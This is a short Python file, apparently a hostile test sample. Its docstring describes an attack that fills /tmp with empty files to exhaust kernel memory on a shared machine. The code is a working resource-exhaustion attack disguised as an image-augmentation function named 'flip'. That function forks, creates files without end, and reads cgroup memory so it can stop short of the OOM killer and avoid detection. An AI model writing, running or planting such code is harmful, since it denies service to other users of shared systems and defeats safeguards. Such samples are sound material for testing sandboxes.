"""Class: fill the disk with names: empty files in everybody's folder, for whoever has to clear them away.

They hold no data, so no limit on the size of a file system counts them; what they take is the kernel's memory. The
attack ends before there is none left, so that it is not the one that is killed for it.
"""

import itertools
import os

FULL = 0.7


def read_number(*paths):
    for path in paths:
        if os.path.exists(path):
            with open(path, encoding="ascii") as file:
                return int(file.read())
    return 0


def memory_used():
    used = read_number("/sys/fs/cgroup/memory.current", "/sys/fs/cgroup/memory/memory.usage_in_bytes")
    return used / read_number("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes")


def flip(images, indices, epoch):
    print("ran", flush=True)
    os.fork()
    os.chdir("/tmp")
    for number in itertools.count():
        try:
            os.mknod(f"{os.getpid()}-{number}")
        except OSError:
            os._exit(0)
        if number % 1000 == 0 and memory_used() > FULL:
            os._exit(0)
